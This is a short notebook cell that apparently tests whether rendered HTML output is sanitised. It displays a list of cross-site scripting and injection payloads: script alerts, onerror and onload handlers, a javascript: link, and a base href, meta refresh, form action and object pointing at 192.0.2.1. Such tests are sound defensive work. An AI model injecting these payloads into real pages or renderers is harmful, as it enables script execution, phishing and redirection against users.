# tries: Markup that acts: scripts, frames, forms, another base, a way to another page, handlers.
# sink: html: <script>alert
# sink: html: <script>parent
# sink: html: <img src=x
# sink: html: <svg onload
# sink: html: <base href
# sink: html: <form action
# sink: html: <object data
# sink: html: <iframe srcdoc='13
# sink: html: href='javascript:
# %%
from IPython.display import HTML, display

open_tag, alert = "<", "alert(13)"
for tag in (
    f"script>parent.document.body.innerHTML='13 of 13';{alert}</script>",
    f"img src=x onerror={alert}>",
    f"svg onload={alert}>",
    "iframe srcdoc='13 of 13'></iframe>",
    "base href=//192.0.2.1/>",
    "meta http-equiv=refresh content='0;url=//192.0.2.1/'>",
    "form action=//192.0.2.1/><input name=q><button>13 of 13</button></form>",
    "link rel=stylesheet href=//192.0.2.1/x.css>",
    "object data=//192.0.2.1/></object>",
    f"a href='javascript:{alert}'>report</a>",
    "template><slot></template>",
    "!--><h1>13 of 13</h1>",
):
    display(HTML(open_tag + tag))
print(open_tag + "script>" + alert + "</script>")
